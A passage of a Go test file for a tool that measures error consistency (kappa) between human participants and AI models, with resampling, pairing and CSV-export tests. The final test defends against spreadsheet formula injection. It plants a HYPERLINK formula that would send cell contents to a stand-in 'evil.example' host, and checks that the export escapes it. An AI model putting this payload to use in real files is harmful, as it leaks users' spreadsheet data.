	for j := range m.Items {
		if j >= 36 {
			m.Items[j].Task = task.Pyramid
		}
	}
	for i := range m.Observers {
		if o := &m.Observers[i]; o.Kind == Model {
			// Three models, two conditions each, listed out of order.
			o.Model, o.Condition = "model"+itoa(2-i%3), []string{"base", "tuned"}[i%2]
		}
	}
	opt := Options{Resamples: 1700, Seed: 7} // four chunks, the last one short
	full, err := Analyze(m, opt)
	if err != nil {
		t.Fatal(err)
	}
	byTask, err := Analyze(m, Options{Resamples: opt.Resamples, Seed: opt.Seed, Grouping: ByTask})
	if err != nil {
		t.Fatal(err)
	}
	checkSubset(t, "ByTask", full, byTask)

	oneSize := subMatrix(m, func(it Item) bool { return it.Task == task.Pyramid && it.Size == 4 }, func(Observer) bool { return true })
	part, err := Analyze(oneSize, opt)
	if err != nil {
		t.Fatal(err)
	}
	// Its "all sizes" group covers only size 4, so compare the size group alone.
	part.Groups = slices.DeleteFunc(part.Groups, func(g Group) bool { return g.Size == 0 })
	checkSubset(t, "one size", full, part)

	oneModel := subMatrix(m, func(Item) bool { return true }, func(o Observer) bool {
		return o.Kind == Human || (o.Model == "model1" && o.Condition == "tuned")
	})
	part, err = Analyze(oneModel, Options{Resamples: opt.Resamples, Seed: opt.Seed, Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	if len(part.Groups[0].Models) != 1 {
		t.Fatalf("one model: %d models", len(part.Groups[0].Models))
	}
	checkSubset(t, "one model", full, part)
}

// poolMatrix is a pool study: people x k items each out of items (k divides
// items), every item seen by the same number of people (people*k/items), in
// random order, plus runs models that answered everything. Item sizes cycle
// through six.
func poolMatrix(people, k, items, runs int, seed uint64) *Matrix {
	r := rand.New(rand.NewPCG(seed, 7))
	its := make([]Item, items)
	for j := range its {
		its[j] = Item{ID: "s" + itoa(j), Task: task.Tower, Size: 2 + j%6, Truth: Answer(1 + r.IntN(2))}
	}
	m := NewMatrix(its)
	answer := func(i, j int, acc float64) {
		a := its[j].Truth
		if r.Float64() >= acc {
			a = 3 - a
		}
		m.Observers[i].Answers[j] = a
	}
	var perm []int
	for p := range people {
		// Each round deals a fresh permutation out in blocks of k, so nobody
		// sees an item twice and every item is seen once per round.
		if (p*k)%items == 0 {
			perm = r.Perm(items)
		}
		i := m.AddObserver(Observer{ID: "p" + itoa(p), Kind: Human})
		acc := 0.6 + 0.35*r.Float64()
		for _, j := range perm[(p*k)%items : (p*k)%items+k] {
			answer(i, j, acc)
		}
	}
	for k := range runs {
		i := m.AddObserver(Observer{ID: "run" + itoa(k), Kind: Model, Model: "model" + itoa(k), Seed: 1})
		for j := range its {
			answer(i, j, 0.8)
		}
	}
	return m
}

// allPairs is the human-human loop before the item index: every pair of people
// in order, pairs with nothing in common skipped.
func allPairs(humans []run, mask bitset) (vals []float64, undefined int) {
	for a := range humans {
		for b := a + 1; b < len(humans); b++ {
			k := errorConsistencyBits(humans[a].bits, humans[b].bits, mask)
			if k.Defined {
				vals = append(vals, k.Value)
			} else if k.N > 0 {
				undefined++
			}
		}
	}
	return vals, undefined
}

// TestHumanPairsMatchesAllPairs: finding partners through the items must give
// the very values, in the very order, of trying every pair, so that the
// bootstrap draws the same pairs; in a fixed design, where everybody shares
// items with everybody, and in pool designs, where most pairs share nothing.
func TestHumanPairsMatchesAllPairs(t *testing.T) {
	fixed := randomMatrix(40, 60, 0, 3)
	// A few people with one answer only, some answering nothing at all.
	for i := 0; i < 40; i += 7 {
		o := &fixed.Observers[i]
		for j := range o.Answers {
			if j != i || i == 35 {
				o.Answers[j] = Missing
			}
		}
	}
	// Everybody right on every item of size 7: those pairs' kappas are undefined.
	for i := range fixed.Observers {
		for j, it := range fixed.Items {
			if it.Size == 7 && fixed.Observers[i].Answers[j] != Missing {
				fixed.Observers[i].Answers[j] = it.Truth
			}
		}
	}
	for name, m := range map[string]*Matrix{
		"fixed":        fixed,
		"pool":         poolMatrix(300, 6, 600, 0, 4),
		"sparse pool":  poolMatrix(400, 5, 1000, 0, 5),
		"overlap pool": poolMatrix(60, 40, 80, 0, 6),
	} {
		n := len(m.Items)
		var humans []run
		for _, o := range m.Observers {
			r := run{bits: observerBits{newBitset(n), newBitset(n), newBitset(n)}}
			for j, a := range o.Answers {
				if a != Missing {
					r.bits.answered.set(j)
					if a == m.Items[j].Truth {
						r.bits.correct.set(j)
					}
				}
			}
			humans = append(humans, r)
		}
		by := observersByItem(humans, n)
		for _, g := range groupsOf(m.Items, BySizeAndTask) {
			mask := newBitset(n)
			for j, it := range m.Items {
				if g.Size == 0 || it.Size == g.Size {
					mask.set(j)
				}
			}
			gotPairs, gotUndef := humanPairs(humans, by, mask)
			got := kappasOf(gotPairs)
			want, wantUndef := allPairs(humans, mask)
			if !slices.Equal(got, want) || gotUndef != wantUndef {
				t.Errorf("%s size %d: %d kappas, %d undefined; every pair gives %d, %d", name, g.Size, len(got), gotUndef, len(want), wantUndef)
			}
			if len(want)+wantUndef == 0 || (name == "fixed" && g.Size == 7 && wantUndef == 0) {
				t.Errorf("%s size %d: the case is not exercised (%d kappas, %d undefined)", name, g.Size, len(want), wantUndef)
			}
		}
	}
}

// TestCSVHeaderFresh: a caller that edits the header it was given (to rename a
// column in its own download, say) changes neither WriteCSV nor other callers.
func TestCSVHeaderFresh(t *testing.T) {
	h := CSVHeader()
	want := strings.Join(h, ",")
	h[0] = "changed"
	if got := CSVHeader(); got[0] != "task" {
		t.Errorf("header after a caller's edit: %v", got)
	}
	rep, err := Analyze(handMatrix(), Options{Resamples: 10, Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	if err := rep.WriteCSV(&out); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
	if lines[0] != want {
		t.Errorf("WriteCSV header %q, want %q", lines[0], want)
	}
	for i, l := range lines[1:] {
		if n := strings.Count(l, ",") + 1; n != len(h) {
			t.Errorf("row %d has %d fields, header %d: %s", i+1, n, len(h), l)
		}
	}
}

// TestReportCSVFormulaCells: model names and conditions are free text from
// an upload; a spreadsheet must show them, not run them, while negative
// kappas stay numbers.
func TestReportCSVFormulaCells(t *testing.T) {
	m := handMatrix()
	for i := range m.Observers {
		if m.Observers[i].Kind == Model {
			m.Observers[i].Model = `=HYPERLINK("http://evil.example/?"&A1,"x")`
			m.Observers[i].Condition = "@SUM(1+1)"
		}
	}
	rep, err := Analyze(m, Options{Resamples: 100, Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	if err := rep.WriteCSV(&out); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	negative := false
	for _, rec := range recs[1:] {
		if rec[2] == "model" && (rec[3] != `'=HYPERLINK("http://evil.example/?"&A1,"x")` || rec[4] != "'@SUM(1+1)") {
			t.Errorf("model cells %q, %q: want a leading apostrophe", rec[3], rec[4])
		}
		if strings.HasPrefix(rec[9], "-") {
			negative = true
			if _, err := strconv.ParseFloat(rec[9], 64); err != nil {
				t.Errorf("negative value %q is no longer a number", rec[9])
			}
		}
	}
	if !negative {
		t.Error("the hand-worked data has a negative kappa; none found")
	}
}
